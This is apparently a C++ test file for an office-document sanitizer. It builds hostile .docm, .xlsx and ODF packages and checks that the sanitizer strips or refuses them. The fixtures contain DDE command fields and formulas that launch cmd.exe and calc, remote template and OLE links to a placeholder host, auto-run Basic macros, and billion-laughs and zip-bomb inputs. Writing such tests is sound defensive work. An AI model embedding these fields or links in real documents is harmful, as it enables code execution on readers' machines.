// office_cdr on OOXML packages built here part by part: each active element
// is gone from the output as `unzip` (not our reader) extracts it, the
// document's text and harmless fields stay, and hostile packages (bombs,
// truncation, entity expansion, 100k relationships, duplicate names) get a
// named verdict in bounded time.
#include <catch2/catch_test_macros.hpp>
#include <catch2/matchers/catch_matchers_string.hpp>

#include <chrono>
#include <filesystem>
#include <fstream>

#include "sanitizers/office_cdr/office_cdr.h"
#include "sanitizers/office_cdr/flat_formats.h"
#include "sanitizers/office_cdr/format.h"
#include "sanitizers/office_cdr/ooxml.h"
#include "sanitizers/zip_scan/repack.h"
#include "test/common/time_budget.h"
#include "test/common/cli_run.h"

namespace fs = std::filesystem;
using namespace mugai;
using namespace mugai::sanitizers::office_cdr;
using Catch::Matchers::ContainsSubstring;

namespace {

using Parts = std::vector<std::pair<std::string, std::string>>;

std::string package(const Parts& parts) {
  std::vector<sanitizers::zip_scan::PackedFile> files;
  for (const auto& [name, bytes] : parts) files.push_back({name, &bytes, nullptr, 0, 0, false});
  std::string error;
  auto z = sanitizers::zip_scan::repack(files, "", error);
  REQUIRE(z);
  return *z;
}

const std::string kCt =
    R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>)"
    R"(<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">)"
    R"(<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>)"
    R"(<Default Extension="xml" ContentType="application/xml"/>)"
    R"(<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>)"
    R"(<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>)"
    R"(<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>)"
    R"(</Types>)";
const std::string kRootRels =
    R"(<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
    R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>)"
    R"(</Relationships>)";
const std::string kW = R"(xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" )"
                       R"(xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships")";

std::string documentXml(const std::string& body) {
  return R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document )" + kW + "><w:body>" + body +
         "</w:body></w:document>";
}

std::string complexField(const std::string& instr, const std::string& result) {
  return R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">)" + instr +
         R"(</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>)" + result +
         R"(</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)";
}

// A .docm with one of everything Word can be made to fetch or run.
std::string hostileDocm() {
  const std::string body =
      R"(<w:p><w:r><w:t>令和6年度 予算資料 body text</w:t></w:r></w:p>)" +
      complexField(R"(DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe")", "DDE result text") +
      complexField("PAGE", "7") +
      // INCLUDEPICTURE whose name is split over two instrText runs.
      R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r>)"
      R"(<w:r><w:instrText>PICTURE "http://192.0.2.1/x.png"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>)"
      R"(<w:r><w:t>picture result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)"
      R"(<w:p><w:fldSimple w:instr=" DDE cmd /c calc "><w:r><w:t>simple result</w:t></w:r></w:fldSimple></w:p>)"
      R"(<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>link text</w:t></w:r></w:hyperlink></w:p>)"
      R"(<w:p><w:r><w:object><w:control r:id="rIdX"/></w:object></w:r></w:p>)";
  const std::string docRels =
      R"(<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
      R"(<Relationship Id="rIdOle" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="mhtml:http://192.0.2.1/x.html!x" TargetMode="External"/>)"
      R"(<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/login" TargetMode="External"/>)"
      R"(<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>)"
      R"(<Relationship Id="rIdSet" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/>)"
      R"(</Relationships>)";
  const std::string settings = R"(<?xml version="1.0" encoding="UTF-8"?><w:settings )" + kW +
                               R"(><w:attachedTemplate r:id="rIdT"/></w:settings>)";
  const std::string settingsRels =
      R"(<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
      R"(<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="\\192.0.2.1\share\t.dotm" TargetMode="External"/>)"
      R"(</Relationships>)";
  return package({{"[Content_Types].xml", kCt},
                  {"_rels/.rels", kRootRels},
                  {"word/document.xml", documentXml(body)},
                  {"word/_rels/document.xml.rels", docRels},
                  {"word/vbaProject.bin", std::string("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 VBA", 12)},
                  {"word/settings.xml", settings},
                  {"word/_rels/settings.xml.rels", settingsRels}});
}

Result cleanWith(const std::string& bytes, Options o = {}) {
  Limits limits;
  ScanContext ctx(limits, std::chrono::steady_clock::now() + std::chrono::seconds(30));
  return cleanOoxml(bytes, o, ctx);
}

// `unzip -p` of one part: the independent reader.
std::string unzipRun(const std::string& zip, const std::string& args) {
  const fs::path dir = fs::temp_directory_path() / ("mugai-ooxml-" + std::to_string(::getpid()));
  fs::create_directories(dir);
  { std::ofstream(dir / "x.zip", std::ios::binary) << zip; }
  auto r = test::runCommand("unzip " + args.substr(0, args.find(' ')) + " '" + (dir / "x.zip").string() + "'" +
                            args.substr(args.find(' ')) + " 2>/dev/null");
  fs::remove_all(dir);
  return r.out;
}

// `unzip -p` of one part (names here hold no quote or glob character).
std::string unzipPart(const std::string& zip, const std::string& part) {
  std::string escaped;
  for (char c : part) escaped += (c == '[' || c == ']') ? std::string("\\") + c : std::string(1, c);
  return unzipRun(zip, "-p '" + escaped + "'");
}

std::string unzipList(const std::string& zip) { return unzipRun(zip, "-Z1 "); }

bool hasCode(const Result& r, const std::string& code) {
  for (const auto& x : r.removals)
    if (x.code == code) return true;
  return false;
}

template <class F>
double seconds(F&& f) {
  const auto t0 = std::chrono::steady_clock::now();
  f();
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
}

}  // namespace

TEST_CASE("a hostile .docm comes back a .docx without macros, DDE, INCLUDE fields, links or controls, its text kept",
          "[office][ooxml]") {
  Result r = cleanWith(hostileDocm());
  REQUIRE(r.outcome == Outcome::Cleaned);
  CHECK(r.extension == "docx");
  for (const std::string code : {"office.vba_removed", "office.dde_removed", "office.field_removed",
                                  "office.external_relationship_removed", "office.hyperlink_removed",
                                  "office.activex_removed"}) {
    INFO(code);
    CHECK(hasCode(r, code));
  }
  const std::string names = unzipList(r.bytes);
  CHECK(names.find("vbaProject.bin") == std::string::npos);
  const std::string doc = unzipPart(r.bytes, "word/document.xml");
  const std::string rels = unzipPart(r.bytes, "word/_rels/document.xml.rels");
  const std::string settings = unzipPart(r.bytes, "word/settings.xml") + unzipPart(r.bytes, "word/_rels/settings.xml.rels");
  const std::string types = unzipPart(r.bytes, "[Content_Types].xml");
  CHECK_THAT(doc, ContainsSubstring("令和6年度 予算資料 body text"));
  for (const char* kept : {"DDE result text", "picture result", "simple result", "link text", ">PAGE<", ">7<"})
    CHECK_THAT(doc, ContainsSubstring(kept));
  for (const char* gone : {"DDEAUTO", "INCLUDE", "PICTURE \"", " DDE cmd", "w:hyperlink", "w:control"})
    CHECK(doc.find(gone) == std::string::npos);
  CHECK(rels.find("External") == std::string::npos);
  CHECK(rels.find("vbaProject") == std::string::npos);
  CHECK(settings.find("attachedTemplate") == std::string::npos);
  CHECK(types.find("macroEnabled") == std::string::npos);
  CHECK(types.find("vbaProject") == std::string::npos);
  CHECK_THAT(types, ContainsSubstring("wordprocessingml.document.main+xml"));

  SECTION("cleaning the output again finds nothing more") { CHECK(cleanWith(r.bytes).outcome == Outcome::Clean); }
  SECTION("hyperlinks = keep leaves the link, defang shows where it went") {
    Options keep;
    keep.hyperlinks = LinkPolicy::Keep;
    Result k = cleanWith(hostileDocm(), keep);
    CHECK_THAT(unzipPart(k.bytes, "word/_rels/document.xml.rels"), ContainsSubstring("https://example.com/login"));
    CHECK(!hasCode(k, "office.hyperlink_removed"));
    Options defang;
    defang.hyperlinks = LinkPolicy::Defang;
    Result d = cleanWith(hostileDocm(), defang);
    CHECK_THAT(unzipPart(d.bytes, "word/document.xml"), ContainsSubstring("hxxps://example[.]com/login"));
  }
}

TEST_CASE("a Strict (ISO 29500) document is held to the same rules", "[office][ooxml]") {
  // The same hostile package with every vocabulary under its Strict namespace.
  std::string z = hostileDocm();
  auto strictly = [](std::string x) {
    for (const auto& [from, to] : {std::pair<std::string, std::string>{
                                       "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
                                       "http://purl.oclc.org/ooxml/wordprocessingml/main"},
                                   {"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
                                    "http://purl.oclc.org/ooxml/officeDocument/relationships"}})
      for (std::size_t at = x.find(from); at != std::string::npos; at = x.find(from, at + to.size()))
        x.replace(at, from.size(), to);
    return x;
  };
  const std::string body = unzipPart(z, "word/document.xml"), settings = unzipPart(z, "word/settings.xml");
  const std::string docRels = unzipPart(z, "word/_rels/document.xml.rels");
  const std::string settingsRels = unzipPart(z, "word/_rels/settings.xml.rels");
  REQUIRE(body.find("DDEAUTO") != std::string::npos);
  const std::string strict = package({{"[Content_Types].xml", kCt},
                                      {"_rels/.rels", strictly(kRootRels)},
                                      {"word/document.xml", strictly(body)},
                                      {"word/_rels/document.xml.rels", strictly(docRels)},
                                      {"word/settings.xml", strictly(settings)},
                                      {"word/_rels/settings.xml.rels", strictly(settingsRels)}});
  Result r = cleanWith(strict);
  REQUIRE(r.outcome == Outcome::Cleaned);
  const std::string doc = unzipPart(r.bytes, "word/document.xml");
  CHECK_THAT(doc, ContainsSubstring("purl.oclc.org/ooxml/wordprocessingml/main"));
  for (const char* gone : {"DDEAUTO", "INCLUDE", " DDE cmd", "hyperlink", "control"}) {
    INFO(gone);
    CHECK(doc.find(gone) == std::string::npos);
  }
  CHECK_THAT(doc, ContainsSubstring("DDE result text"));
  CHECK(unzipPart(r.bytes, "word/settings.xml").find("attachedTemplate") == std::string::npos);
  CHECK(unzipPart(r.bytes, "word/_rels/document.xml.rels").find("External") == std::string::npos);
}

TEST_CASE("a field whose name is spelled by a nested field is removed; IF with a nested MERGEFIELD stays",
          "[office][ooxml]") {
  auto nested = [](const std::string& before, const std::string& innerInstr, const std::string& after) {
    return R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>)" + before +
           R"(</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>)" + innerInstr +
           R"(</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDEAUTO</w:t></w:r>)"
           R"(<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>)" + after +
           R"(</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>outer result</w:t></w:r>)"
           R"(<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)";
  };
  const auto doc = [](const std::string& body) {
    const std::string ct = R"(<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">)"
                           R"(<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>)"
                           R"(<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>)";
    return package({{"[Content_Types].xml", ct}, {"_rels/.rels", kRootRels}, {"word/document.xml", documentXml(body)}});
  };
  Result built = cleanWith(doc(nested(" ", R"(QUOTE "DDEAUTO")", R"( c:\\windows\\system32\\cmd.exe)")));
  REQUIRE(built.outcome == Outcome::Cleaned);
  CHECK(hasCode(built, "office.field_removed"));
  const std::string out = unzipPart(built.bytes, "word/document.xml");
  CHECK(out.find("cmd.exe") == std::string::npos);
  CHECK_THAT(out, ContainsSubstring("outer result"));

  Result merge = cleanWith(doc(nested("IF ", "MERGEFIELD Gender", R"( = "F" "Ms." "Mr.")")));
  CHECK(merge.outcome == Outcome::Clean);
}

TEST_CASE("hostile OOXML packages get a named verdict in bounded time", "[office][ooxml][limits]") {
  SECTION("truncated package") {
    std::string z = hostileDocm();
    z.resize(z.size() / 2);
    Result r;
    CHECK(seconds([&] { r = cleanWith(z); }) < mugai::test::timeBound(1.0));
    CHECK(r.outcome == Outcome::Refuse);
    CHECK(r.removals.front().code == "office.unreadable");
  }
  SECTION("a part that inflates 1000 times (bomb)") {
    const std::string big(60u << 20, ' ');
    const std::string z = package({{"[Content_Types].xml", kCt}, {"_rels/.rels", kRootRels}, {"word/document.xml", big}});
    Result r;
    CHECK(seconds([&] { r = cleanWith(z); }) < mugai::test::timeBound(1.0));
    REQUIRE(r.outcome == Outcome::Refuse);
    CHECK(r.removals.front().code == "limit.compression_ratio");
  }
  SECTION("entity expansion in a part (billion laughs)") {
    std::string lol = R"(<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY e0 "lol">)";
    for (int i = 1; i < 10; ++i) {
      lol += "<!ENTITY e" + std::to_string(i) + " \"";
      for (int k = 0; k < 10; ++k) lol += "&e" + std::to_string(i - 1) + ";";
      lol += "\">";
    }
    lol += "]><w:document " + kW + "><w:body><w:p><w:r><w:t>&e9;</w:t></w:r></w:p></w:body></w:document>";
    const std::string z = package({{"[Content_Types].xml", kCt}, {"_rels/.rels", kRootRels}, {"word/document.xml", lol}});
    Result r;
    CHECK(seconds([&] { r = cleanWith(z); }) < mugai::test::timeBound(1.0));
    REQUIRE(r.outcome == Outcome::Refuse);
    CHECK(r.removals.front().code == "office.unreadable");
    CHECK_THAT(r.removals.front().detail, ContainsSubstring("DOCTYPE"));
  }
  SECTION("100k external relationships are removed in well under a second and listed once each") {
    std::string rels = R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)";
    for (int i = 0; i < 100000; ++i)
      rels += R"(<Relationship Id="r)" + std::to_string(i) +
              R"(" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://192.0.2.1/)" +
              std::to_string(i) + R"(.png" TargetMode="External"/>)";
    rels += "</Relationships>";
    const std::string z = package({{"[Content_Types].xml", kCt},
                                   {"_rels/.rels", kRootRels},
                                   {"word/document.xml", documentXml("<w:p/>")},
                                   {"word/_rels/document.xml.rels", rels}});
    Result r;
    CHECK(seconds([&] { r = cleanWith(z); }) < mugai::test::timeBound(10.0));  // linear: ~1 s in Release; quadratic would be minutes
    REQUIRE(r.outcome == Outcome::Cleaned);
    CHECK(unzipPart(r.bytes, "word/_rels/document.xml.rels").find("External") == std::string::npos);
  }
  SECTION("relationships that point at each other in a cycle") {
    const std::string a = R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
                          R"(<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="../word/document.xml"/></Relationships>)";
    const std::string z = package({{"[Content_Types].xml", kCt},
                                   {"_rels/.rels", kRootRels},
                                   {"word/document.xml", documentXml("<w:p/>")},
                                   {"word/_rels/document.xml.rels", a}});
    Result r;
    CHECK(seconds([&] { r = cleanWith(z); }) < mugai::test::timeBound(1.0));
    CHECK(r.outcome != Outcome::Refuse);
  }
  SECTION("two parts with one name (OPC names ignore case)") {
    std::string z = package({{"[Content_Types].xml", kCt},
                             {"_rels/.rels", kRootRels},
                             {"word/document.xml", documentXml("<w:p/>")},
                             {"WORD/Documenx.xml", documentXml("<w:p/>")}});
    // Our writer refuses duplicates, so rename in place (local and central header).
    for (std::size_t at = z.find("Documenx"); at != std::string::npos; at = z.find("Documenx", at)) z[at + 7] = 't';
    Result r = cleanWith(z);
    REQUIRE(r.outcome == Outcome::Refuse);
    CHECK(r.removals.front().code == "office.unreadable");
  }
}

TEST_CASE("renamedFor gives a macro-enabled name its macro-free extension", "[office]") {
  CHECK(renamedFor("見積書.docm", "docx") == "見積書.docx");
  CHECK(renamedFor("a.b.XLSM", "xlsx") == "a.b.xlsx");
  CHECK(renamedFor("noext", "pptx") == "noext.pptx");
  CHECK(renamedFor("trail.docm. ", "docx") == "trail.docx");
  CHECK(renamedFor("", "docx").empty());
  CHECK(renamedFor("x.docm", "") == "x.docm");
}

// What a reviewer got through once (each a delivered active element),
// kept as regressions. Outputs judged with unzip's extraction.
TEST_CASE("office_cdr regressions: tricks that once delivered active content", "[office][ooxml][odf]") {
  const std::string xlCt =
      R"(<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">)"
      R"(<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>)"
      R"(<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>)"
      R"(<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>)";
  const std::string xlRoot =
      R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>)";
  auto workbook = [&](const std::string& ns, const std::string& names, const std::string& cells) {
    return package({{"[Content_Types].xml", xlCt},
                    {"_rels/.rels", xlRoot},
                    {"xl/workbook.xml", R"(<?xml version="1.0"?><workbook xmlns=")" + ns +
                                            R"(" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">)"
                                            R"(<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>)" + names + "</workbook>"},
                    {"xl/_rels/workbook.xml.rels",
                     R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
                     R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>)"},
                    {"xl/worksheets/sheet1.xml", R"(<?xml version="1.0"?><worksheet xmlns=")" + ns +
                                                     R"("><sheetData><row r="1">)" + cells + "</row></sheetData></worksheet>"}});
  };
  const std::string transitional = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
  SECTION("a DDE formula whose end tag carries a blank, or spells its pipe as &#124;") {
    for (const std::string& cell : {std::string(R"(<c r="A1"><f t="normal">cmd|' /c calc'!A0</f ><v>0</v></c>)"),
                                    std::string(R"(<c r="A1"><f>cmd&#124;' /c calc'!A0</f ><v>0</v></c>)")}) {
      Result r = cleanWith(workbook(transitional, "", cell));
      REQUIRE(r.outcome == Outcome::Cleaned);
      CHECK(unzipPart(r.bytes, "xl/worksheets/sheet1.xml").find("calc") == std::string::npos);
    }
  }
  SECTION("a DDE formula in a Strict workbook") {
    Result r = cleanWith(workbook("http://purl.oclc.org/ooxml/spreadsheetml/main", "",
                                  R"(<c r="A1"><f>cmd|' /c calc'!A0</f><v>0</v></c>)"));
    REQUIRE(r.outcome == Outcome::Cleaned);
    CHECK(unzipPart(r.bytes, "xl/worksheets/sheet1.xml").find("calc") == std::string::npos);
  }
  SECTION("a defined name whose value is a DDE link") {
    Result r = cleanWith(workbook(transitional, R"(<definedNames><definedName name="Foo">cmd|' /c calc'!A0</definedName></definedNames>)", ""));
    REQUIRE(r.outcome == Outcome::Cleaned);
    CHECK(unzipPart(r.bytes, "xl/workbook.xml").find("calc") == std::string::npos);
  }
  SECTION("TargetMode other than exactly Internal, and 'internal' targets that name a scheme or a UNC path") {
    for (const std::string& rel :
         {std::string(R"(Target="file://192.0.2.1/share/x.png" TargetMode=" External")"),
          std::string(R"(Target="file://192.0.2.1/share/x.png" TargetMode="External&#x200b;")"),
          std::string(R"(Target="\\192.0.2.1\share\x.png")"), std::string(R"(Target="mhtml:http://192.0.2.1/x!x.png")"),
          std::string(R"(Target="http://192.0.2.1/x.png" TargetMode="Internal")")}) {
      CAPTURE(rel);
      const std::string rels =
          R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
          R"(<Relationship Id="rIdImg" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" )" +
          rel + "/></Relationships>";
      Result r = cleanWith(package({{"[Content_Types].xml", kCt},
                                    {"_rels/.rels", kRootRels},
                                    {"word/document.xml", documentXml("<w:p/>")},
                                    {"word/_rels/document.xml.rels", rels}}));
      REQUIRE(r.outcome == Outcome::Cleaned);
      CHECK(hasCode(r, "office.external_relationship_removed"));
      CHECK(unzipPart(r.bytes, "word/_rels/document.xml.rels").find("192.0.2.1") == std::string::npos);
    }
  }
  SECTION("a package with bytes after its end record is an OOXML our reader refuses, not a non-document") {
    std::string z = hostileDocm() + std::string(100, '\0');
    REQUIRE(detectFormat(z, "docx") == Format::Ooxml);
    Result r = cleanWith(z);
    REQUIRE(r.outcome == Outcome::Refuse);
    CHECK(r.removals.front().code == "office.unreadable");
  }
  SECTION("ODF whose mimetype is late, deflated or missing is still ODF") {
    const std::string content =
        R"(<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" )"
        R"(xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">)"
        R"(<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" )"
        R"(xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>)"
        R"(</office:event-listeners></office:scripts><office:body/></office:document-content>)";
    const std::string module = R"(<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script">Sub Main
Shell("calc.exe")
End Sub</script:module>)";
    const std::string mime = "application/vnd.oasis.opendocument.text";
    for (bool withMime : {true, false}) {
      Parts parts{{"content.xml", content}, {"Basic/Standard/Module1.xml", module}};
      if (withMime) parts.push_back({"mimetype", mime});  // last, deflated by our writer
      const std::string z = package(parts);
      REQUIRE(detectFormat(z, "odt") == Format::Odf);
      Limits limits;
      ScanContext ctx(limits, std::chrono::steady_clock::now() + std::chrono::seconds(30));
      Result r = cleanOdf(z, Options{}, ctx);
      REQUIRE(r.outcome == Outcome::Cleaned);
      CHECK(r.mimeType == mime);
      CHECK(unzipList(r.bytes).find("Basic/") == std::string::npos);
      CHECK(unzipPart(r.bytes, "content.xml").find("event-listener") == std::string::npos);
    }
  }
  SECTION("flat XML is known past a long prolog, and flat ODF at all") {
    const std::string pad = "<?xml version=\"1.0\"?><!--" + std::string(5000, 'x') + "-->";
    CHECK(detectFormat(pad + R"(<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"/>)", "xml") ==
          Format::FlatXml);
    CHECK(detectFormat(R"(<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>)",
                       "fodt") == Format::FlatXml);
    CHECK(detectFormat(R"(<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>)",
                       "xml") == Format::None);
    const std::string fodt =
        R"(<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" )"
        R"(xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><office:scripts><office:script )"
        R"(script:language="ooo:Basic">Sub Main: Shell("calc.exe"): End Sub</office:script></office:scripts><office:body/></office:document>)";
    Limits limits;
    ScanContext ctx(limits, std::chrono::steady_clock::now() + std::chrono::seconds(30));
    Result r = cleanFlat(Format::FlatXml, fodt, Options{}, ctx);
    REQUIRE(r.outcome == Outcome::Refuse);
    CHECK(r.removals.front().code == "office.flat_active");
  }
}
